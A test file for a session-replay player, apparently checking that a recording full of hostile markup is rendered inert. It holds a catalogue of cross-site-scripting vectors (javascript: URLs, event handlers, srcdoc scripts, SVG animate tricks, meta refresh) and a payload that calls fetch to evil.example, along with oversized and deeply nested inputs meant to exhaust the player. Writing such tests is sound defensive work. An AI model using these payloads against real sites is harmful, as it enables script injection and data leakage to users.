/** A recording that holds everything that may run a script, load something, or lead away. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchChromium } from '../../recorded-session/chromium.mjs';
import { SITE, type Visit, events, json, recording, visitSite } from './given';

const EVIL = 'https://evil.example';
/** What a script of the recording would do, wherever it ran. */
const RUN = 'top.pwned=parent.pwned=window.pwned=1;fetch("https://evil.example/ran")';
let id = 0;

type Node = Record<string, unknown>;

function element(tagName: string, attributes: object = {}, childNodes: Node[] = [], more: object = {}): Node {
  return { type: 2, id: ++id, tagName, attributes, childNodes, ...more };
}

function text(textContent: string): Node {
  return { type: 3, id: ++id, textContent };
}

const svg = (tagName: string, attributes: object, children: Node[] = []) =>
  element(tagName, attributes, children, { isSVG: true });

function hostileBody(): Node[] {
  return [
    element('h1', {}, [text('Harmless')]),
    element('script', { src: `${EVIL}/script.js` }, [text(RUN)]),
    element('SCRIPT', { type: 'module' }, [text(RUN)]),
    element('img', { src: 'x', onerror: RUN, ONLOAD: RUN }),
    element('img', { src: `${EVIL}/image.png`, srcset: `${EVIL}/set.png 2x`, rr_dataURL: `${EVIL}/data.png` }),
    element('a', { href: `javascript:${RUN}`, ping: `${EVIL}/ping` }, [text('a link')]),
    element('a', { href: ` java\nscript:${RUN}`, autofocus: true, onfocus: RUN }, [text('another')]),
    element('iframe', { src: `${EVIL}/frame`, rr_src: `${EVIL}/frame` }),
    element('iframe', { srcdoc: `<script>${RUN}</script>` }),
    element('iframe', { src: `javascript:${RUN}` }),
    element('object', { data: `${EVIL}/object` }),
    element('embed', { src: `${EVIL}/embed` }),
    element('form', { action: `${EVIL}/form`, method: 'post' }, [
      element('button', { formaction: `javascript:${RUN}` }, [text('Send')]),
      element('input', { autofocus: true, onfocus: RUN, name: 'a' }),
    ]),
    element('video', { src: `${EVIL}/video.mp4`, poster: `${EVIL}/poster.png`, autoplay: true, rr_mediaState: 'played' }),
    element('audio', { src: `${EVIL}/audio.mp3`, autoplay: true }),
    element('details', { open: '', ontoggle: RUN }, [element('summary', {}, [text('more')])]),
    element('div', { style: `background: url(${EVIL}/style.png)`, onanimationstart: RUN }),
    svg('svg', { onload: RUN, viewBox: '0 0 9 9' }, [
      svg('script', {}, [text(RUN)]),
      svg('image', { href: `${EVIL}/svg.png` }),
      svg('use', { 'xlink:href': `${EVIL}/sprite.svg#a` }),
      svg('a', { 'xlink:href': `javascript:${RUN}` }, [
        svg('animate', { attributeName: 'href', values: `javascript:${RUN}`, begin: '0s', onbegin: RUN }),
      ]),
      svg('foreignObject', {}, [element('iframe', { srcdoc: `<script>${RUN}</script>` })]),
    ]),
    element('x-widget', {}, [], { isCustom: true }),
    element('no such tag', {}, [text('odd')]),
    element('bad-', { 'no"name': 'x' }, [], { isCustom: true }),
  ];
}

function hostileHead(): Node[] {
  return [
    element('base', { href: `${EVIL}/` }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
    element('meta', { 'HTTP-EQUIV': 'Set-Cookie', content: 'a=b' }),
    element('link', { rel: 'stylesheet', href: `${EVIL}/sheet.css` }),
    element('link', { rel: 'preconnect', href: EVIL }),
    element('link', { rel: 'dns-prefetch', href: EVIL }),
    element('link', { rel: 'prefetch', href: `${EVIL}/prefetch` }),
    element('link', { rel: 'modulepreload', href: `${EVIL}/module.js` }),
    element('style', {
      _cssText: `@import url(${EVIL}/import.css); @font-face { font-family: f; src: url(${EVIL}/font.woff) } h1 { font-family: f; background: url(${EVIL}/rule.png) }`,
    }),
  ];
}

/** Events from `hostileBody`, then changes that would make what is there hostile. */
function hostileLines(): string[] {
  id = 0;
  const frame = element('iframe', {});
  const link = element('link', { rel: 'icon' });
  const body = element('body', { onload: RUN, onpageshow: RUN }, [...hostileBody(), frame]);
  const html = element('html', {}, [element('head', {}, [...hostileHead(), link]), body]);
  const node = { type: 0, id: ++id, childNodes: [{ type: 1, id: ++id, name: 'html', publicId: '', systemId: '' }, html] };
  const mutation = { source: 0, adds: [] as unknown[], removes: [], attributes: [] as unknown[], texts: [] };
  mutation.adds = hostileBody().map((added) => ({ parentId: body['id'], nextId: null, node: added }));
  mutation.attributes = [
    { id: frame['id'], attributes: { src: `${EVIL}/later`, srcdoc: `<script>${RUN}</script>` } },
    { id: link['id'], attributes: { rel: 'preconnect', href: EVIL } },
    { id: body['id'], attributes: { onclick: RUN, style: `background:url(${EVIL}/change.png)` } },
  ];
  const at = Date.UTC(2026, 8, 1);
  return [
    { type: 4, timestamp: at, data: { href: `javascript:${RUN}`, width: 800, height: 600 } },
    { type: 2, timestamp: at + 1, data: { node, initialOffset: { left: 0, top: 0 } } },
    { type: 3, timestamp: at + 50, data: mutation },
    { type: 3, timestamp: at + 60, data: { source: 8, id: 1, adds: [{ rule: `b{background:url(${EVIL}/b.png)}` }] } },
    { type: 3, timestamp: at + 70, data: { source: 10, family: 'g', fontSource: `url(${EVIL}/g.woff)`, buffer: false } },
    { type: 3, timestamp: at + 80, data: { source: 0, adds: null } },
    { type: 3, timestamp: at + 900, data: { source: 2, type: 2, id: body['id'], x: 9, y: 9 } },
  ].map((event) => JSON.stringify(event));
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());

async function play(lines: readonly string[]): Promise<Visit> {
  const visit = await visitSite(browser, (path) =>
    path.includes('/events') ? events(lines) : json(recording(1, { pageUrl: `javascript:${RUN}`, pageTitle: '<b>x' })),
  );
  await visit.page.goto(`${SITE}/recordings/recording-1`);
  return visit;
}

test('nothing of it runs, and nothing leaves', async () => {
  const { context, page, strangers } = await play(hostileLines());
  const replayed = page.frameLocator('.player iframe').first();
  await replayed.locator('h1', { hasText: 'Harmless' }).first().waitFor({ state: 'attached' });
  await page.getByRole('button', { name: 'Play again' }).waitFor();
  await page.waitForTimeout(500);
  const facts = await page.evaluate(() => {
    const frame = document.querySelector<HTMLIFrameElement>('.player iframe')!;
    const page = frame.contentDocument!;
    const all = [...page.querySelectorAll('*')];
    return {
      pwned: 'pwned' in window || 'pwned' in frame.contentWindow!,
      sandbox: frame.sandbox.value,
      inert: frame.inert,
      headings: page.querySelectorAll('h1').length,
      handlers: all.flatMap((one) => one.getAttributeNames().filter((name) => /^on/i.test(name))),
      connects: [...page.querySelectorAll('link[href], meta[http-equiv], base[href], [ping], [srcdoc]')].length,
      frames: [...page.querySelectorAll('iframe')].map((one) => one.contentWindow?.location.href ?? 'elsewhere'),
      scriptUrls: all.filter((one) => one.getAttributeNames().some((n) => /^\s*javascript:/.test(one.getAttribute(n)!)))
        .length,
    };
  });
  const address = page.url();
  await context.close();

  expect({ ...facts, frames: [...new Set(facts.frames)] }).toEqual({
    pwned: false,
    sandbox: 'allow-same-origin',
    inert: true,
    headings: 2,
    handlers: [],
    connects: 0,
    frames: ['about:blank'],
    scriptUrls: 0,
  });
  expect(strangers).toEqual([]);
  expect(address).toBe(`${SITE}/recordings/recording-1`);
});

test('a link to a script as the address of the page is no link', async () => {
  const { context, page } = await play(hostileLines());
  await page.locator('.page-address').waitFor();
  const links = await page.locator('.page-address a').count();
  await context.close();

  expect(links).toBe(0);
});

test('a page of a million nodes is not drawn, and the site stays usable', async () => {
  const children = Array.from({ length: 1_000_000 }, (_, n) => `{"type":3,"id":${n + 9},"textContent":"x"}`).join();
  const at = Date.UTC(2026, 8, 1);
  const { context, page } = await play([
    `{"type":4,"timestamp":${at},"data":{"href":"https://shop.example/","width":800,"height":600}}`,
    `{"type":2,"timestamp":${at + 1},"data":{"node":{"type":0,"id":1,"childNodes":[${children}]},"initialOffset":{"left":0,"top":0}}}`,
  ]);
  await page.getByRole('heading', { name: 'There is nothing to play' }).waitFor();
  await page.getByRole('link', { name: 'Set up' }).click();
  await page.getByRole('heading', { name: 'Set up' }).waitFor();
  await context.close();
});

test('a page of ten thousand boxes, each in another, does not end the player', async () => {
  const deep = '{"type":2,"id":9,"tagName":"div","attributes":{},"childNodes":[';
  const at = Date.UTC(2026, 8, 1);
  const body = `${deep.repeat(10_000)}${']}'.repeat(10_000)}`;
  const html = `{"type":2,"id":2,"tagName":"html","attributes":{},"childNodes":[{"type":2,"id":3,"tagName":"body","attributes":{},"childNodes":[${body}]}]}`;
  const { context, page } = await play([
    `{"type":4,"timestamp":${at},"data":{"href":"https://shop.example/","width":800,"height":600}}`,
    `{"type":2,"timestamp":${at + 1},"data":{"node":{"type":0,"id":1,"childNodes":[${html}]},"initialOffset":{"left":0,"top":0}}}`,
    `{"type":5,"timestamp":${at + 500},"data":{"tag":"end","payload":{}}}`,
  ]);
  await page.getByRole('button', { name: 'Play again' }).waitFor();
  await context.close();
});
